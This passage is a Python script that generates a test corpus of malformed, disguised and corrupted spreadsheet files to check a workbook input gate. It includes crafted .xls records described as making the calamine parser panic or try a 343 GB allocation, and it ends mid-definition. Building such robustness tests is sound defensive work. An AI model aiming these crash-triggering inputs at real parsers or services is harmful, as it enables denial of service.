"""Build the robustness corpus: every bad, hostile or odd-but-valid workbook, by script.

Why a script and not checked-in binaries: each file says in code what is wrong with it, it
can be rebuilt when a writer library changes, and a reviewer can read the attack instead of
trusting a blob.  Run ``python tests/corpus/make_corpus.py OUTDIR`` to look at the files;
the tests call :func:`build` into a temporary folder.  ``--fuzz-reader SEED N`` mutates
the valid files and reads them in child processes (:func:`fuzz_reader`).

Every file is a :class:`Case`: what the input gate must do with it (refuse with ``reason``
or accept as ``fmt`` with ``notes``) and which exit codes ``gendan check`` may give.
Legacy formats (.xls, .xlsb, .ods) are written by the minimal pure-Python writers below
(a CFB container + BIFF8 records, BIFF12 records, ODF XML), so the corpus needs no
LibreOffice; when ``soffice`` is on PATH, LibreOffice-made copies are added as well.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape, quoteattr

REPO = Path(__file__).resolve().parents[2]

# --------------------------------------------------------------------------- cases


@dataclass(frozen=True)
class Case:
    """One corpus file and what must happen to it."""

    name: str
    about: str
    reason: str | None = None  # gate refusal reason; None = the gate accepts it
    fmt: str | None = None  # accepted format
    notes: tuple[str, ...] = ()  # notes the gate must report (subset)
    cli_exit: frozenset[int] = frozenset({0, 1, 2})
    tags: tuple[str, ...] = ()

    @property
    def refused(self) -> bool:
        return self.reason is not None


_BUILDERS: list[tuple[Case, Callable[[Path], None]]] = []


def case(
    name: str,
    about: str,
    *,
    reason: str | None = None,
    fmt: str | None = None,
    notes: tuple[str, ...] = (),
    cli_exit: set[int] | None = None,
    tags: tuple[str, ...] = (),
) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    if cli_exit is None:
        cli_exit = {2} if reason else {0, 1}
    c = Case(name, about, reason, fmt, notes, frozenset(cli_exit), tags)

    def deco(fn: Callable[[Path], None]) -> Callable[[Path], None]:
        _BUILDERS.append((c, fn))
        return fn

    return deco


def cases() -> list[Case]:
    return [c for c, _ in _BUILDERS]


def build(dest: str | os.PathLike[str], only: set[str] | None = None) -> list[Case]:
    """Write every corpus file (or those named in ``only``) into ``dest``; return their cases."""
    out = Path(dest)
    out.mkdir(parents=True, exist_ok=True)
    built = []
    for c, fn in _BUILDERS:
        if only is not None and c.name not in only:
            continue
        fn(out / c.name)
        built.append(c)
    built.extend(_build_soffice(out, only))
    return built


# --------------------------------------------------------------------------- master data

DAY = dt.date(2026, 1, 5)


def _iso6346(owner_serial: str) -> str:
    """Append the ISO 6346 check digit to 4 letters + 6 digits."""
    values = {}
    n = 10
    for ch in "ABCDEFGHIJKLMNOPQRSTUVWXYZ":
        if n % 11 == 0:
            n += 1
        values[ch] = n
        n += 1
    total = 0
    for i, ch in enumerate(owner_serial):
        v = values[ch] if ch.isalpha() else int(ch)
        total += v * (2**i)
    return owner_serial + str(total % 11 % 10)


def _schema() -> dict[str, Any]:
    import yaml

    schema: dict[str, Any] = yaml.safe_load(
        (REPO / "schemas" / "master.yaml").read_text(encoding="utf-8")
    )
    return schema


def _columns(sheet: str) -> list[dict[str, Any]]:
    return list(_schema()["sheets"][sheet]["columns"])


def master_header() -> list[str]:
    return [str(c["zh"]) for c in _columns("master")]


def master_keys() -> list[str]:
    return [str(c["key"]) for c in _columns("master")]


def _order(i: int) -> dict[str, Any]:
    cartons = 1200 + 10 * i
    d0 = DAY + dt.timedelta(days=7 * i)
    return {
        "contract_no": f"SC-2026-{i + 1:03d}",
        "contract_date": d0,
        "customer": "FRESHMART",
        "sales_manager": "王芳",
        "product": "苹果",
        "spec": "80#",
        "kg_per_carton": 18.0,
        "cartons": cartons,
        "net_weight_kg": cartons * 18.0,
        "gross_weight_kg": cartons * 19.0,
        "container_type": "40RH",
        "containers": 1,
        "container_nos": _iso6346(f"MSCU{123450 + i:06d}"),
        "temperature_c": 0.5,
        "ventilation": "15 CBM/H",
        "currency": "USD",
        "unit_price": 20.0,
        "amount": cartons * 20.0,
        "incoterm": "CIF",
        "port_of_loading": "Qingdao",
        "port_of_discharge": "Singapore",
        "payment_terms": "T/T 30% deposit, 70% against B/L copy",
        "etd": d0 + dt.timedelta(days=20),
        "vessel_voyage": "MSC ANNA 123E",
        "bl_no": f"MEDUQD{100000 + i}",
        "bl_date": d0 + dt.timedelta(days=21),
        "invoice_no": f"INV-{i + 1:03d}",
        "dispatch_method": "DHL",
        "tracking_no": f"{1234567890 + i}",
        "docs_sent_date": d0 + dt.timedelta(days=24),
        "received_amount": cartons * 20.0,
        "received_date": d0 + dt.timedelta(days=30),
        "status": "已收款",
        "remarks": "",
    }


def master_rows(n: int = 3) -> list[list[Any]]:
    keys = master_keys()
    return [[_order(i).get(k) for k in keys] for i in range(n)]


def reference_sheets() -> dict[str, list[list[Any]]]:
    cust = {
        "customer": "FRESHMART",
        "full_name": "FreshMart Pte Ltd",
        "address": "1 Harbour Road, Singapore",
        "country": "SG",
        "contact": "Tan",
        "email": "buyer@freshmart.example",
        "language": "en",
        "default_payment_terms": "T/T 30% deposit, 70% against B/L copy",
        "dispatch_preference": "DHL",
    }
    prod = {
        "product": "苹果",
        "spec": "80#",
        "kg_per_carton": 18.0,
        "cartons_per_20RF": 1000,
        "cartons_per_40RH": 2400,
        "temp_min_c": -1.0,
        "temp_max_c": 1.0,
        "ventilation": "15 CBM/H",
        "hs_code": "0808100000",
    }
    cc, pc = _columns("customers"), _columns("products")
    return {
        "客户": [[c["zh"] for c in cc], [cust.get(c["key"]) for c in cc]],
        "产品": [[c["zh"] for c in pc], [prod.get(c["key"]) for c in pc]],
        "公司": [["公司名称", "Gendan Fruit Co., Ltd."], ["SWIFT", "BKCHCNBJ"]],
    }


TITLE = "2026 工作序列表 (Orders)"


def _write_openpyxl(
    path: Path,
    rows: list[list[Any]] | None = None,
    header: list[Any] | None = None,
    title_rows: int = 1,
    tweak: Callable[[Any, Any], None] | None = None,
    master_name: str = "工作序列表",
    keep_refs: bool = True,
) -> None:
    """The base workbook (openpyxl): title row(s), header, rows, reference sheets."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.worksheets[0]  # the new workbook's one sheet
    ws.title = master_name
    for _ in range(title_rows):
        ws.append([TITLE])
    ws.append(header if header is not None else master_header())
    for r in rows if rows is not None else master_rows():
        ws.append(r)
    if keep_refs:
        for name, data in reference_sheets().items():
            s = wb.create_sheet(name)
            for r in data:
                s.append(r)
    if tweak:
        tweak(wb, ws)
    wb.save(path)


def _rewrite_zip(
    src: Path,
    dest: Path,
    change: Callable[[str, bytes], bytes | None],
    extra: dict[str, bytes] | None = None,
) -> None:
    """Copy a zip part by part; ``change`` returns new bytes, the same, or None to drop."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = change(info.filename, zin.read(info.filename))
            if data is not None:
                zout.writestr(info.filename, data)
        for n, d in (extra or {}).items():
            zout.writestr(n, d)


def _base_xlsx(path: Path) -> None:
    _write_openpyxl(path)


def _patched(
    path: Path, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None
) -> None:
    with tempfile.TemporaryDirectory() as td:
        base = Path(td) / "base.xlsx"
        _base_xlsx(base)
        _rewrite_zip(base, path, change, extra)


# --------------------------------------------------------------------------- minimal binary writers


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal Compound File (MS-CFB v3): every stream in regular 512-byte sectors.

    Streams are padded to 4096 bytes (the mini-stream cutoff) so no mini stream is needed.
    """
    ss = 512
    endc, free, fatsect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    items = list(streams.items())
    data_secs = [max(1, -(-max(len(d), 4096) // ss)) for _, d in items]
    dir_secs = -(-(1 + len(items)) // 4)
    n_fat = 1
    while n_fat * 128 < n_fat + dir_secs + sum(data_secs):
        n_fat += 1
    fat = [free] * (n_fat * 128)
    for i in range(n_fat):
        fat[i] = fatsect
    s = n_fat
    first_dir = s
    for i in range(dir_secs):
        fat[s + i] = s + i + 1 if i < dir_secs - 1 else endc
    s += dir_secs
    starts = []
    for n in data_secs:
        starts.append(s)
        for i in range(n):
            fat[s + i] = s + i + 1 if i < n - 1 else endc
        s += n

    def entry(name: str, etype: int, child: int, right: int, start: int, size: int) -> bytes:
        nb = (name + "\0").encode("utf-16-le")
        return (
            nb.ljust(64, b"\0")
            + struct.pack("<HBB", len(nb), etype, 1)
            + struct.pack("<III", nostream, right, child)
            + b"\0" * 36
            + struct.pack("<IQ", start, size)
        )

    dirs = entry("Root Entry", 5, 1 if items else nostream, nostream, endc, 0)
    for i, (name, d) in enumerate(items):
        right = i + 2 if i + 1 < len(items) else nostream
        dirs += entry(name, 2, nostream, right, starts[i], max(len(d), 4096))
    dirs = dirs.ljust(dir_secs * ss, b"\0")
    difat = list(range(n_fat)) + [free] * (109 - n_fat)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, n_fat, first_dir, 0, 4096, endc, 0, endc, 0)
        + struct.pack("<109I", *difat)
    )
    body = struct.pack(f"<{len(fat)}I", *fat) + dirs
    for (_name, d), n in zip(items, data_secs, strict=True):
        body += d.ljust(n * ss, b"\0")
    return header + body


def _rec(t: int, body: bytes = b"") -> bytes:
    return struct.pack("<HH", t, len(body)) + body


Cells = list[tuple[int, int, Any]]  # (row0, col0, value)


def _grid_cells(rows: list[list[Any]]) -> Cells:
    out: Cells = []
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if v is None or v == "":
                continue
            if isinstance(v, dt.date):
                v = (v - dt.date(1899, 12, 30)).days
            out.append((r, c, v))
    return out


def biff8(sheets: list[tuple[str, Cells]], date1904: bool = False, filepass: bool = False) -> bytes:
    """The Workbook stream of a minimal BIFF8 .xls: SST strings, NUMBER cells, no styles."""
    strings: list[str] = []
    idx: dict[str, int] = {}
    for _, cells in sheets:
        for _, _, v in cells:
            if isinstance(v, str) and v not in idx:
                idx[v] = len(strings)
                strings.append(v)

    def bof(kind: int) -> bytes:
        return _rec(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x0006))

    sst_body = struct.pack("<II", len(strings), len(strings)) + b"".join(
        struct.pack("<HB", len(s), 1) + s.encode("utf-16-le") for s in strings
    )
    sheet_streams = []
    for _name, cells in sheets:
        out = bof(0x0010)
        rows = [r for r, _, _ in cells] or [0]
        cols = [c for _, c, _ in cells] or [0]
        out += _rec(
            0x0200, struct.pack("<IIHHH", min(rows), max(rows) + 1, min(cols), max(cols) + 1, 0)
        )
        for r, c, v in cells:
            if isinstance(v, str):
                out += _rec(0x00FD, struct.pack("<HHHI", r, c, 15, idx[v]))
            else:
                out += _rec(0x0203, struct.pack("<HHHd", r, c, 15, float(v)))
        sheet_streams.append(out + _rec(0x000A))

    def globals_(offsets: list[int]) -> bytes:
        g = bof(0x0005)
        if filepass:
            g += _rec(0x002F, struct.pack("<HHH", 0, 0x1234, 0x5678))  # XOR obfuscation
        g += _rec(0x0042, struct.pack("<H", 1200))
        g += _rec(0x0022, struct.pack("<H", 1 if date1904 else 0))
        for (name, _), off in zip(sheets, offsets, strict=True):
            g += _rec(
                0x0085, struct.pack("<IBBBB", off, 0, 0, len(name), 1) + name.encode("utf-16-le")
            )
        return g + _rec(0x00FC, sst_body) + _rec(0x000A)

    size = len(globals_([0] * len(sheets)))
    offs = []
    for s in sheet_streams:
        offs.append(size)
        size += len(s)
    return globals_(offs) + b"".join(sheet_streams)


def _b12(t: int, body: bytes = b"") -> bytes:
    out = bytearray([t] if t < 0x80 else [(t & 0x7F) | 0x80, t >> 7])
    n = len(body)
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | (0x80 if n else 0))
        if not n:
            break
    return bytes(out) + body


def _wstr(s: str) -> bytes:
    return struct.pack("<I", len(s)) + s.encode("utf-16-le")


_CT_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
)
_REL_HEAD = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def xlsb(sheets: list[tuple[str, Cells]], date1904: bool = False) -> bytes:
    """A minimal .xlsb: BIFF12 workbook.bin + one worksheet .bin per sheet (inline strings)."""
    wb = (
        _b12(0x83)
        + _b12(0x99, struct.pack("<II", 1 if date1904 else 0, 0) + _wstr(""))
        + _b12(0x8F)
    )
    for i, (name, _) in enumerate(sheets):
        wb += _b12(0x9C, struct.pack("<II", 0, i + 1) + _wstr(f"rId{i + 1}") + _wstr(name))
    wb += _b12(0x90) + _b12(0x84)
    parts = {"xl/workbook.bin": wb}
    rels = ""
    ct = _CT_HEAD
    for i, (_name, cells) in enumerate(sheets):
        by_row: dict[int, list[tuple[int, Any]]] = {}
        for r, c, v in cells:
            by_row.setdefault(r, []).append((c, v))
        maxr = max([r for r, _, _ in cells] or [0])
        maxc = max([c for _, c, _ in cells] or [0])
        sh = _b12(0x81) + _b12(0x94, struct.pack("<IIII", 0, maxr, 0, maxc)) + _b12(0x91)
        for r in sorted(by_row):
            sh += _b12(0x00, struct.pack("<IIHBBBI", r, 0, 300, 0, 0, 0, 0))
            for c, v in sorted(by_row[r]):
                if isinstance(v, str):
                    sh += _b12(0x06, struct.pack("<II", c, 0) + _wstr(v))
                else:
                    sh += _b12(0x05, struct.pack("<IId", c, 0, float(v)))
        parts[f"xl/worksheets/sheet{i + 1}.bin"] = sh + _b12(0x92) + _b12(0x82)
        rels += f'<Relationship Id="rId{i + 1}" Type="{_R}/worksheet" Target="worksheets/sheet{i + 1}.bin"/>'
        ct += f'<Override PartName="/xl/worksheets/sheet{i + 1}.bin" ContentType="application/vnd.ms-excel.worksheet"/>'
    ct += '<Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr(
            "_rels/.rels",
            _REL_HEAD
            + f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="xl/workbook.bin"/></Relationships>',
        )
        z.writestr("xl/_rels/workbook.bin.rels", _REL_HEAD + rels + "</Relationships>")
        for n, d in parts.items():
            z.writestr(n, d)
    return buf.getvalue()


def ods(sheets: list[tuple[str, list[list[Any]]]], extra_rows: str = "") -> bytes:
    """A minimal OpenDocument spreadsheet (mimetype stored first, as ODF requires)."""
    body = ""
    for name, rows in sheets:
        body += f"<table:table table:name={quoteattr(name)}>"
        for row in rows:
            body += "<table:table-row>"
            for v in row:
                if v is None or v == "":
                    body += "<table:table-cell/>"
                elif isinstance(v, dt.date):
                    body += f'<table:table-cell office:value-type="date" office:date-value="{v.isoformat()}"><text:p>{v.isoformat()}</text:p></table:table-cell>'
                elif isinstance(v, (int, float)):
                    body += f'<table:table-cell office:value-type="float" office:value="{v!r}"><text:p>{v}</text:p></table:table-cell>'
                else:
                    body += f'<table:table-cell office:value-type="string"><text:p>{escape(str(v))}</text:p></table:table-cell>'
            body += "</table:table-row>"
        body += extra_rows + "</table:table>"
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f"<office:body><office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
        z.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def _legacy_sheets() -> list[tuple[str, list[list[Any]]]]:
    sheets = [("工作序列表", [[TITLE], master_header(), *master_rows()])]
    sheets += list(reference_sheets().items())
    return sheets


# --------------------------------------------------------------------------- raw OOXML parts

_SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def raw_xlsx(
    path: Path,
    sheet_xml: bytes | str,
    extra: dict[str, bytes | str] | None = None,
    workbook_pr: str = "",
) -> None:
    """A hand-assembled one-sheet .xlsx around ``sheet_xml`` (for what writers refuse to make)."""
    ct = (
        _CT_HEAD
        + '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        + '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        + '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    wb = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_SHEET_NS}" xmlns:r="{_R}">{workbook_pr}'
        '<sheets><sheet name="工作序列表" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    rels = (
        _REL_HEAD
        + f'<Relationship Id="rId1" Type="{_R}/worksheet" Target="worksheets/sheet1.xml"/>'
    )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": ct,
        "_rels/.rels": _REL_HEAD
        + f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": wb,
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    if extra and "xl/sharedStrings.xml" in extra:
        rels += f'<Relationship Id="rId2" Type="{_R}/sharedStrings" Target="sharedStrings.xml"/>'
    parts["xl/_rels/workbook.xml.rels"] = rels + "</Relationships>"
    parts.update(extra or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in parts.items():
            z.writestr(n, d)


class RawV(str):
    """A cell value written verbatim into ``<v>`` (for values no writer would produce)."""


def _col(c: int) -> str:
    s = ""
    while c:
        c, r = divmod(c - 1, 26)
        s = chr(65 + r) + s
    return s


def _sheet_xml(rows: list[list[Any]], prefix: str = "", with_r: bool = True) -> str:
    """Worksheet XML with inline strings; ``prefix`` puts every element in a namespace prefix."""
    p = f"{prefix}:" if prefix else ""
    xmlns = f'xmlns:{prefix}="{_SHEET_NS}"' if prefix else f'xmlns="{_SHEET_NS}"'
    out = [f'<?xml version="1.0" encoding="UTF-8"?><{p}worksheet {xmlns}><{p}sheetData>']
    for r, row in enumerate(rows, start=1):
        out.append(f'<{p}row r="{r}">' if with_r else f"<{p}row>")
        for c, v in enumerate(row, start=1):
            ref = f' r="{_col(c)}{r}"' if with_r else ""
            if isinstance(v, RawV):
                out.append(f"<{p}c{ref}><{p}v>{v}</{p}v></{p}c>")
            elif v is None or v == "":
                out.append(f"<{p}c{ref}/>")
            elif isinstance(v, dt.date):
                out.append(f"<{p}c{ref}><{p}v>{(v - dt.date(1899, 12, 30)).days}</{p}v></{p}c>")
            elif isinstance(v, (int, float)):
                out.append(f"<{p}c{ref}><{p}v>{v!r}</{p}v></{p}c>")
            else:
                out.append(
                    f'<{p}c{ref} t="inlineStr"><{p}is><{p}t>{escape(str(v))}</{p}t></{p}is></{p}c>'
                )
        out.append(f"</{p}row>")
    out.append(f"</{p}sheetData></{p}worksheet>")
    return "".join(out)


def _master_grid() -> list[list[Any]]:
    return [[TITLE], master_header(), *master_rows()]


# --------------------------------------------------------------------------- 1. not workbooks


@case("empty.xlsx", "0-byte file", reason="empty")
def _empty(p: Path) -> None:
    p.write_bytes(b"")


@case("csv-renamed.xlsx", "UTF-8 CSV (with BOM) saved under .xlsx", reason="csv")
def _csv(p: Path) -> None:
    lines = [",".join(master_header()[:6])] + [
        ",".join(str(v) for v in r[:6]) for r in master_rows()
    ]
    p.write_bytes(b"\xef\xbb\xbf" + "\r\n".join(lines).encode("utf-8"))


@case(
    "csv-gbk-renamed.xlsx", "GBK-encoded CSV (what Chinese Excel saves) under .xlsx", reason="csv"
)
def _csv_gbk(p: Path) -> None:
    lines = [",".join(master_header()[:6])] + [
        ",".join(str(v) for v in r[:6]) for r in master_rows()
    ]
    p.write_bytes("\r\n".join(lines).encode("gbk"))


@case(
    "tsv-utf16-renamed.xls",
    "UTF-16 tab-separated text ('Unicode text' export) under .xls",
    reason="csv",
)
def _tsv16(p: Path) -> None:
    lines = ["\t".join(master_header()[:6])] + [
        "\t".join(str(v) for v in r[:6]) for r in master_rows()
    ]
    p.write_bytes(b"\xff\xfe" + "\r\n".join(lines).encode("utf-16-le"))


@case("html-export.xls", "HTML table saved as .xls (web 'export to Excel')", reason="html")
def _html(p: Path) -> None:
    cells = "".join(f"<td>{escape(h)}</td>" for h in master_header()[:6])
    p.write_text(
        f"<html><head><meta charset='utf-8'></head><body><table><tr>{cells}</tr></table></body></html>",
        encoding="utf-8",
    )


@case("spreadsheetml-2003.xml.xls", "Excel 2003 XML spreadsheet saved as .xls", reason="xml2003")
def _xml2003(p: Path) -> None:
    p.write_text(
        '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="工作序列表">'
        '<Table><Row><Cell><Data ss:Type="String">合同号</Data></Cell></Row></Table></Worksheet></Workbook>',
        encoding="utf-8",
    )


@case("pdf-renamed.xlsx", "a PDF under .xlsx", reason="pdf")
def _pdf(p: Path) -> None:
    p.write_bytes(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")


@case("random-bytes.xlsx", "binary noise", reason="unknown")
def _noise(p: Path) -> None:
    import random

    rng = random.Random(6346)
    p.write_bytes(bytes([0x00, 0xFF]) + bytes(rng.randrange(256) for _ in range(4096)))


@case("raw-biff2.xls", "a bare BIFF2 stream (Excel 2.x, no OLE container)", reason="raw-biff")
def _biff2(p: Path) -> None:
    p.write_bytes(_rec(0x0009, struct.pack("<HH", 2, 0x10)) + _rec(0x000A))


# --------------------------------------------------------------------------- 2. damaged packages


@case("truncated.xlsx", "a valid workbook cut in half (interrupted download)", reason="corrupt-zip")
def _truncated(p: Path) -> None:
    _base_xlsx(p)
    data = p.read_bytes()
    p.write_bytes(data[: len(data) // 2])


@case(
    "truncated-tail.xlsx",
    "a valid workbook missing its last 10 bytes (central directory cut)",
    reason="corrupt-zip",
)
def _truncated_tail(p: Path) -> None:
    _base_xlsx(p)
    data = p.read_bytes()
    p.write_bytes(data[:-10])


@case(
    "bad-crc.xlsx",
    "one digit of the stored worksheet changed: only its CRC-32 tells",
    reason="corrupt-part",
)
def _bad_crc(p: Path) -> None:
    # The sheet is stored (not deflated) and one digit of a cell value changes:
    # the XML stays well-formed and the size stays right, so only the CRC-32 can tell; a
    # flipped byte of deflated data could fail as a size or inflate error instead, by chance.
    _base_xlsx(p)
    with zipfile.ZipFile(p) as z:
        parts = [(i, z.read(i)) for i in z.infolist()]
    with zipfile.ZipFile(p, "w") as z:
        for info, body in parts:
            stored = info.filename == "xl/worksheets/sheet1.xml"
            z.writestr(info.filename, body, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    data = bytearray(p.read_bytes())
    with zipfile.ZipFile(p) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    body = bytes(data[start : start + info.compress_size])
    at = body.index(b"<v>") + 3  # the first digit of a cell value
    assert chr(body[at]).isdigit()
    data[start + at] ^= 0x01  # another digit: still the same XML, another CRC
    p.write_bytes(bytes(data))


@case("zip-not-workbook.xlsx", "a zip of text files under .xlsx", reason="zip-not-workbook")
def _zip_plain(p: Path) -> None:
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("readme.txt", "not a workbook")


@case("docx-renamed.xlsx", "a Word .docx under .xlsx", reason="word")
def _docx(p: Path) -> None:
    with zipfile.ZipFile(p, "w") as z:
        z.writestr(
            "[Content_Types].xml",
            _CT_HEAD
            + '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        z.writestr("word/document.xml", "<w:document xmlns:w='x'/>")


@case("odt-renamed.ods", "an OpenDocument text file under .ods", reason="odf-not-spreadsheet")
def _odt(p: Path) -> None:
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        z.writestr("content.xml", "<x/>")


@case(
    "missing-workbook-part.xlsx",
    "content types present, xl/workbook.xml missing",
    reason="missing-part",
)
def _missing_wb(p: Path) -> None:
    _patched(p, lambda n, d: None if n == "xl/workbook.xml" else d)


@case(
    "duplicate-part.xlsx",
    "the worksheet part stored twice (ambiguous package)",
    reason="duplicate-part",
)
def _dup(p: Path) -> None:
    import warnings

    with tempfile.TemporaryDirectory() as td:
        base = Path(td) / "b.xlsx"
        _base_xlsx(base)
        with zipfile.ZipFile(base) as zin, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zout:
            for info in zin.infolist():
                zout.writestr(info.filename, zin.read(info.filename))
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                zout.writestr("xl/worksheets/sheet1.xml", _sheet_xml([["evil"]]))


@case(
    "bzip2-part.xlsx",
    "a part compressed with bzip2 (Excel only uses deflate)",
    reason="unsupported-compression",
)
def _bzip(p: Path) -> None:
    with tempfile.TemporaryDirectory() as td:
        base = Path(td) / "b.xlsx"
        _base_xlsx(base)
        with zipfile.ZipFile(base) as zin, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zout:
            for info in zin.infolist():
                ctype = (
                    zipfile.ZIP_BZIP2
                    if info.filename.endswith("sheet1.xml")
                    else zipfile.ZIP_DEFLATED
                )
                zout.writestr(info.filename, zin.read(info.filename), compress_type=ctype)


@case(
    "encrypted-zip-entry.xlsx",
    "zip entries flagged as (ZipCrypto) encrypted",
    reason="encrypted-zip",
)
def _zipcrypto(p: Path) -> None:
    _base_xlsx(p)
    data = bytearray(p.read_bytes())
    # set bit 0 of the general-purpose flags in every local and central header
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = data.find(sig)
        while i >= 0:
            data[i + off] |= 0x01
            i = data.find(sig, i + 4)
    p.write_bytes(bytes(data))


# --------------------------------------------------------------------------- 3. OLE containers


@case(
    "password-protected.xlsx",
    "an .xlsx encrypted with a password (OLE EncryptionInfo + EncryptedPackage)",
    reason="encrypted",
)
def _encrypted(p: Path) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile  # test dependency (msoffcrypto-tool)

    with tempfile.TemporaryDirectory() as td:
        base = Path(td) / "plain.xlsx"
        _base_xlsx(base)
        with open(base, "rb") as fin, open(p, "wb") as fout:
            f = OOXMLFile(fin)
            f.encrypt("gendan", fout)


@case(
    "legacy.xls",
    "a legacy BIFF8 .xls (CFB + Workbook stream) holding the master",
    fmt="xls",
    notes=("legacy-xls",),
)
def _xls(p: Path) -> None:
    p.write_bytes(
        cfb({"Workbook": biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()])})
    )


@case(
    "legacy-1904.xls",
    "a BIFF8 .xls in the 1904 date system",
    fmt="xls",
    notes=("legacy-xls", "date1904"),
)
def _xls1904(p: Path) -> None:
    p.write_bytes(
        cfb(
            {
                "Workbook": biff8(
                    [(n, _grid_cells(rows)) for n, rows in _legacy_sheets()], date1904=True
                )
            }
        )
    )


@case(
    "password-protected.xls",
    "a BIFF8 .xls with a FILEPASS record (password to open)",
    reason="encrypted",
)
def _xls_pw(p: Path) -> None:
    p.write_bytes(
        cfb(
            {
                "Workbook": biff8(
                    [(n, _grid_cells(rows)) for n, rows in _legacy_sheets()], filepass=True
                )
            }
        )
    )


@case(
    "xls-bad-boundsheet.xls",
    "a BOUNDSHEET record pointing past the stream (calamine panics: xls.rs:606)",
    reason="corrupt-xls",
)
def _xls_bad_bs(p: Path) -> None:
    w = bytearray(biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()]))
    i = w.find(struct.pack("<H", 0x0085))
    struct.pack_into("<I", w, i + 4, len(w) + 1000)
    p.write_bytes(cfb({"Workbook": bytes(w)}))


@case(
    "xls-reversed-dimensions.xls",
    "a DIMENSIONS record with first row > last row (calamine asks for 343 GB and aborts)",
    reason="corrupt-xls",
)
def _xls_rev_dim(p: Path) -> None:
    w = bytearray(biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()]))
    i = w.find(struct.pack("<HH", 0x0200, 14))
    struct.pack_into("<I", w, i + 4, 120)  # rwMic = 120 > rwMac
    p.write_bytes(cfb({"Workbook": bytes(w)}))


@case(
    "xls-bad-sst.xls",
